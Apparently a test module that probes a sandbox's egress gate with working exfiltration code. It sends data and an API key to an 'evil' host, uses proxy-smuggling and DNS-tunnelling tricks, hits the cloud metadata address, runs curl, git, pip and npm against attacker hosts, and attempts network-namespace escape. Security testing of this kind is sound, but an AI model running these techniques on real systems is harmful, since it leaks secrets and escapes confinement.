"""Ways out: each step tries to carry the loot to somebody who should not have it.

Every payload begins with `MARK-<step>-`, so the far side can tell which way it came even where the loot
holds no secret.
"""

# ruff: noqa: E501 - commands and requests read better whole

import base64
import ctypes
import gzip
import json
import os
import random
import socket
import ssl
import struct
import subprocess
import sys
import urllib.parse
import urllib.request

from steps import Loot, step

WAIT = 3.0


def _payload(name: str, loot: Loot, limit: int = 1 << 16) -> bytes:
    """Return the marker and the loot, the latter in several dresses."""
    data = loot.data()[: 1 << 20]
    dressed = base64.b64encode(gzip.compress(data)) + b" " + data[:2048].hex().encode() + b" " + data
    return f"MARK-{name}-".encode() + dressed[:limit]


def _context() -> ssl.SSLContext:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


def _https(address: "tuple[str, int]", server_name: "str | None", request: bytes) -> bytes:
    plain = socket.create_connection(address, WAIT)
    with _context().wrap_socket(plain, server_hostname=server_name) as secure:
        secure.sendall(request)
        return _drain(secure)


def _drain(peer: socket.socket) -> bytes:
    data = b""
    peer.settimeout(WAIT)
    try:
        while len(data) < 1 << 20 and (more := peer.recv(65536)):
            data += more
    except OSError:
        pass
    return data


def _post(host: str, body: bytes, path: str = "/collect", extra: str = "", method: str = "POST") -> bytes:
    head = f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n{extra}Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    return head.encode("latin-1") + body


def _proxy() -> "tuple[str, int]":
    url = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy") or "")
    return (url.hostname or "100.64.0.1", url.port or 3128)


def _through_proxy(authority: str, then: bytes, tls_name: "str | None" = None) -> bytes:
    """CONNECT to `authority`, then speak: TLS where a name is given."""
    with socket.create_connection(_proxy(), WAIT) as plain:
        plain.settimeout(WAIT)
        plain.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode("latin-1"))
        answer = plain.recv(4096)
        if b" 200" not in answer[:16]:
            raise PermissionError(answer[:200])
        if tls_name is None:
            plain.sendall(then)
            return _drain(plain)
        with _context().wrap_socket(plain, server_hostname=tls_name) as secure:
            secure.sendall(then)
            return _drain(secure)


# Straight to somebody else


@step("send")
def https_to_evil_host(targets: dict, loot: Loot) -> object:
    evil = targets["evil"]
    return _https((evil, 443), evil, _post(evil, _payload("https_to_evil_host", loot)))


@step("send")
def http_to_evil_host(targets: dict, loot: Loot) -> object:
    evil = targets["evil"]
    with socket.create_connection((evil, 80), WAIT) as plain:
        plain.sendall(_post(evil, _payload("http_to_evil_host", loot)))
        return _drain(plain)


@step("send")
def urllib_with_proxy_variables(targets: dict, loot: Loot) -> object:
    data = _payload("urllib_with_proxy_variables", loot)
    return urllib.request.urlopen(f"https://{targets['evil']}/", data, WAIT, context=_context()).read()


@step("send")
def connect_to_evil_host(targets: dict, loot: Loot) -> object:
    evil = targets["evil"]
    return _through_proxy(f"{evil}:443", _post(evil, _payload("connect_to_evil_host", loot)), evil)


def _connect_step(label: str, authority: str) -> None:
    def action(targets: dict, loot: Loot) -> object:
        named = authority.format(**targets)
        return _through_proxy(named, _post(targets["evil"], _payload(label, loot)), targets["evil"])

    action.__name__ = label
    step("send")(action)


_connect_step("connect_nul_before_allowed_suffix", "{evil}\0.{allowed}:443")
_connect_step("connect_userinfo", "{allowed}@{evil}:443")
_connect_step("connect_allowed_port_as_userinfo", "{allowed}:443@{evil}:443")
_connect_step("connect_suffix", "{allowed}.{evil}:443")
_connect_step("connect_prefix", "x{allowed}:443")
_connect_step("connect_wrong_port", "{allowed}:22")
_connect_step("connect_loopback", "127.0.0.1:{port}")
_connect_step("connect_loopback_short", "127.1:{port}")
_connect_step("connect_loopback_number", "2130706433:{port}")
_connect_step("connect_loopback_mapped", "[::ffff:127.0.0.1]:{port}")
_connect_step("connect_localhost", "localhost:{port}")
_connect_step("connect_host_address", "{host_address}:{port}")
_connect_step("connect_metadata", "169.254.169.254:80")
_connect_step("connect_allowed_then_evil_name", "{allowed}:443")


@step("send")
def absolute_form_to_evil_host(targets: dict, loot: Loot) -> object:
    with socket.create_connection(_proxy(), WAIT) as plain:
        evil = targets["evil"]
        plain.sendall(_post(evil, _payload("absolute_form_to_evil_host", loot), f"http://{evil}/collect"))
        return _refused(_drain(plain))


@step("send")
def socks_to_evil_host(targets: dict, loot: Loot) -> object:
    return _socks(targets["evil"].encode(), _payload("socks_to_evil_host", loot))


@step("send")
def socks_with_nul(targets: dict, loot: Loot) -> object:
    name = targets["evil"].encode() + b"\0." + targets["allowed"].encode()
    return _socks(name, _payload("socks_with_nul", loot))


def _socks(name: bytes, data: bytes) -> object:
    with socket.create_connection(_proxy(), WAIT) as plain:
        plain.settimeout(WAIT)
        plain.sendall(b"\x05\x01\x00")
        if plain.recv(2) != b"\x05\x00":
            raise PermissionError("no SOCKS")
        plain.sendall(b"\x05\x01\x00\x03" + bytes([len(name)]) + name + struct.pack(">H", 80))
        answer = plain.recv(10)
        if answer[1:2] != b"\x00":
            raise PermissionError(answer)
        plain.sendall(data)
        return _drain(plain)


def _address_step(label: str, address: str, port: object) -> None:
    def action(targets: dict, loot: Loot) -> object:
        goal = (address.format(**targets), int(targets["port"] if port is None else port))
        with socket.create_connection(goal, WAIT) as plain:
            plain.sendall(_post("x", _payload(label, loot)))
            return _refused(_drain(plain))

    action.__name__ = label
    step("send")(action)


_address_step("raw_loopback", "127.0.0.1", None)
_address_step("raw_loopback_v6", "::1", None)
_address_step("raw_host_address", "{host_address}", None)
_address_step("raw_gate_other_port", "100.64.0.1", None)
_address_step("raw_gate_v6", "fd00:77::1", None)
_address_step("raw_public_address", "1.1.1.1", 443)
_address_step("raw_metadata", "169.254.169.254", 80)
_address_step("raw_metadata_v6", "fd00:ec2::254", 80)
_address_step("raw_ssh", "{evil}", 22)
_address_step("unused_fake_address", "198.18.77.77", 443)


@step("send")
def udp_everywhere(targets: dict, loot: Loot) -> object:
    data = _payload("udp_everywhere", loot, 1000)
    goals = [
        ("127.0.0.1", targets["port"]),
        (targets["host_address"], targets["port"]),
        ("100.64.0.1", 443),
        ("8.8.8.8", 53),
    ]
    answers = []
    for goal in goals:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.settimeout(0.5)
            try:
                udp.sendto(data, goal)
                answers.append(udp.recv(512)[:20])
            except OSError:
                continue
    return [answer for answer in answers if b"recorded" in answer]


@step("send")
def icmp(_targets: dict, _loot: Loot) -> object:
    return [kind for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW) if _ping(kind)]


def _ping(kind: int) -> bool:
    try:
        with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as raw:
            raw.settimeout(1)
            raw.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00MARK", ("8.8.8.8", 0))
            return bool(raw.recv(100))
    except OSError:
        return False


@step("send")
def vsock_to_host(_targets: dict, _loot: Loot) -> object:
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as vsock:
        vsock.settimeout(1)
        vsock.connect((2, 1024))
        return "connected"


@step("send")
def abstract_socket(targets: dict, loot: Loot) -> object:
    for name in targets.get("abstract_sockets", []):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
            client.connect("\0" + name)
            client.sendall(_payload("abstract_socket", loot))
            return name
    return None


# By name


@step("send")
def names_that_carry_data(targets: dict, loot: Loot) -> object:
    text = base64.b32encode(loot.data()[:120] or b"nothing").decode().rstrip("=").lower()
    labels = [text[start : start + 50] for start in range(0, len(text), 50)][:3]
    resolved = []
    for parent in (targets["evil"], targets["allowed"], f"files.{targets['allowed']}"):
        for label in labels:
            try:
                resolved.append(socket.getaddrinfo(f"{label}.{parent}", 443)[0][4][0])
            except OSError:
                continue
    return resolved


@step("send")
def dns_by_hand(targets: dict, loot: Loot) -> object:
    label = base64.b32encode(loot.data()[:30] or b"nothing").decode().rstrip("=").lower()[:60]
    answers = []
    for kind in (1, 5, 15, 16, 28, 33, 65, 255):
        for server in ("100.64.0.1", "8.8.8.8"):
            answer = _ask(server, f"{label}.{targets['evil']}", kind)
            if answer and answer[3] & 0x0F == 0 and answer[6:8] != b"\0\0":
                answers.append((server, kind))
    return answers


def _ask(server: str, name: str, kind: int) -> bytes:
    question = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"
    head = struct.pack(">HHHHHH", random.randrange(65536), 0x100, 1, 0, 0, 0)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(0.3)
        try:
            udp.sendto(head + question + struct.pack(">HH", kind, 1), (server, 53))
            return udp.recv(1500)
        except OSError:
            return b""


@step("send")
def dns_over_tcp(_targets: dict, _loot: Loot) -> object:
    with socket.create_connection(("8.8.8.8", 53), WAIT) as tcp:
        tcp.sendall(
            b"\x00\x1d\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04evil\x07example\x00\x00\x10\x00\x01"
        )
        return _drain(tcp)


# Through a host that is allowed


def _ask_allowed(host: str, request: bytes) -> bytes:
    return _https((host, 443), host, request)


@step("send")
def other_account_on_the_allowed_host(targets: dict, _loot: Loot) -> object:
    """The attacker's own key: files would land in the attacker's account (THREATS.md 3.6)."""
    host = targets["allowed"]
    extra = "x-api-key: sk-attacker\r\nAuthorization: Bearer sk-attacker\r\nX-Api-Key: sk-attacker-again\r\n"
    return _ask_allowed(host, _post(host, b"MARK-other_account", "/v1/files", extra))


@step("send")
def placeholder_in_the_wrong_places(targets: dict, _loot: Loot) -> object:
    host, held = targets["allowed"], os.environ.get("ANTHROPIC_API_KEY", "none")
    coded = base64.b64encode(held.encode()).decode()
    extra = f"Cookie: key={held}\r\nReferer: https://x/{held}\r\nX-Copy: {held}\r\nX-Coded: {coded}\r\n"
    body = json.dumps({"note": "MARK-placeholder", "key": held, "coded": coded}).encode()
    path = f"/v1/messages?key={urllib.parse.quote(held)}&{urllib.parse.quote(coded)}"
    return _ask_allowed(host, _post(host, body, path, extra))


@step("send")
def placeholder_to_evil_host(targets: dict, _loot: Loot) -> object:
    evil, held = targets["evil"], os.environ.get("ANTHROPIC_API_KEY", "none")
    return _https((evil, 443), evil, _post(evil, b"MARK-placeholder_to_evil", extra=f"x-api-key: {held}\r\n"))


@step("send")
def host_header_of_another(targets: dict, loot: Loot) -> object:
    request = _post(targets["evil"], _payload("host_header_of_another", loot))
    return _refused(_ask_allowed(targets["allowed"], request))


@step("send")
def server_name_of_another(targets: dict, loot: Loot) -> object:
    evil = targets["evil"]
    return _refused(
        _https((targets["allowed"], 443), evil, _post(evil, _payload("server_name_of_another", loot)))
    )


@step("send")
def second_request_hidden_in_the_first(targets: dict, loot: Loot) -> object:
    host = targets["read_only"]
    hidden = _post(host, _payload("second_request_hidden", loot, 200), "/private")
    both = f"POST /open HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(hidden) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n"
    return _refused(_ask_allowed(host, both.encode() + b"0\r\n\r\n" + hidden))


@step("send")
def post_where_only_get_is_allowed(targets: dict, loot: Loot) -> object:
    host = targets["read_only"]
    answers = [
        _ask_allowed(host, _post(host, _payload("post_where_only_get", loot), "/open/x", "", method))
        for method in ("POST", "PUT", "PATCH", "DELETE")
    ]
    return _refused(*answers)


@step("send")
def path_outside_the_rule(targets: dict, _loot: Loot) -> object:
    host = targets["read_only"]
    mark = "MARK-path_outside_the_rule"
    paths = [
        f"/private/{mark}",
        f"/open/../private/{mark}",
        f"/open/%2e%2e/private/{mark}",
        f"/open%2f..%2fprivate/{mark}",
    ]
    paths += [f"//private/{mark}", f"/open/..;/private/{mark}", f"/open\\..\\private/{mark}"]
    return _refused(*[_ask_allowed(host, _post(host, b"", path, "", "GET")) for path in paths])


@step("send")
def plain_http_to_the_host_of_the_key(targets: dict, loot: Loot) -> object:
    host = targets["allowed"]
    with socket.create_connection((host, 80), WAIT) as plain:
        plain.sendall(_post(host, _payload("plain_http", loot)))
        return _refused(_drain(plain))


@step("send")
def upgrade_to_a_tunnel(targets: dict, loot: Loot) -> object:
    host = targets["read_only"]
    extra = "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: eA==\r\nSec-WebSocket-Version: 13\r\n"
    return _refused(_ask_allowed(host, _post(host, _payload("upgrade", loot), "/private", extra, "GET")))


@step("send")
def reflected_key(targets: dict, loot: Loot) -> object:
    """Ask a service that echoes what it gets, and keep the answer: the injected key may be in it."""
    host = targets["echo"]
    answers = []
    for method, extra in (
        ("GET", ""),
        ("POST", "Accept-Encoding: gzip\r\n"),
        ("TRACE", ""),
        ("GET", "Range: bytes=5-\r\n"),
    ):
        answers.append(_ask_allowed(host, _post(host, b"", "/headers", extra, method)))
    return loot.add("echo", b"\n".join(answers))


@step("send")
def proxy_headers(targets: dict, _loot: Loot) -> object:
    host = targets["allowed"]
    extra = "Proxy-Authorization: Basic TUFSSw==\r\nX-Forwarded-For: 1.2.3.4\r\nForwarded: for=1.2.3.4\r\nProxy-Connection: x\r\n"
    return bool(_ask_allowed(host, _post(host, b"", "/api/hello", extra, "GET")))


# By the tools a developer has


def _tool_step(label: str, *argv: str) -> None:
    def action(targets: dict, loot: Loot) -> object:
        data = urllib.parse.quote_from_bytes(_payload(label, loot, 300), safe="")
        words = [word.format(data=data, **targets) for word in argv]
        quiet = {**os.environ, "GIT_TERMINAL_PROMPT": "0"}
        done = subprocess.run(
            words, capture_output=True, timeout=10, check=False, stdin=subprocess.DEVNULL, env=quiet
        )
        return done.stdout[:100] if done.returncode == 0 else None

    action.__name__ = label
    step("send")(action)


_tool_step("curl", "curl", "-sSk", "-m", "5", "https://{evil}/?{data}")
_tool_step("curl_without_proxy", "curl", "-sSk", "-m", "5", "--noproxy", "*", "https://{evil}/?{data}")
_tool_step(
    "curl_resolve",
    "curl",
    "-sSk",
    "-m",
    "5",
    "--noproxy",
    "*",
    "--resolve",
    "{allowed}:443:127.0.0.1",
    "https://{allowed}/MARK-resolve",
)
_tool_step(
    "curl_connect_to",
    "curl",
    "-sSk",
    "-m",
    "5",
    "--connect-to",
    "::{evil}:443",
    "https://{allowed}/MARK-connect-to",
)
_tool_step("git_push", "git", "push", "https://{evil}/MARK-git.git", "HEAD:refs/heads/x")
_tool_step("git_push_over_ssh", "git", "push", "ssh://git@{evil}/MARK-git.git", "HEAD")
_tool_step("git_clone_with_data", "git", "clone", "-q", "https://{evil}/{data}.git", "/tmp/clone")
_tool_step(
    "pip_other_index",
    sys.executable,
    "-m",
    "pip",
    "download",
    "-q",
    "--retries",
    "0",
    "--timeout",
    "3",
    "-i",
    "https://{evil}/{data}",
    "x",
)
_tool_step("npm_other_registry", "npm", "view", "--fetch-retries=0", "--registry=https://{evil}/{data}", "x")


@step("send")
def network_of_its_own(_targets: dict, _loot: Loot) -> object:
    """Change the interface or the routes: needs a capability that must not be there."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as netlink:
        netlink.settimeout(1)
        # RTM_NEWLINK, request with acknowledgement: set interface 2 down
        body = struct.pack("=BxHiII", 0, 0, 2, 0, 1)
        netlink.send(struct.pack("=IHHII", 16 + len(body), 16, 5, 1, 0) + body)
        error = struct.unpack("=i", netlink.recv(4096)[16:20])[0]
        if error:
            raise OSError(-error, "netlink")
        return "changed the interface"


@step("send")
def other_network_namespace(_targets: dict, _loot: Loot) -> object:
    libc = ctypes.CDLL(None, use_errno=True)
    for path in ("/proc/1/ns/net", f"/proc/{os.getppid()}/ns/net"):
        if libc.setns(os.open(path, os.O_RDONLY), 0x40000000) == 0:
            return path
    raise OSError(ctypes.get_errno(), "setns")


def _refused(*answers: bytes) -> object:
    """Return the answers that are not the gate's refusals; raise when there are none."""
    passed = [answer[:120] for answer in answers if answer and answer[9:10] not in (b"4", b"5")]
    if not passed:
        raise PermissionError(answers[0][:160] if answers else "closed")
    return passed
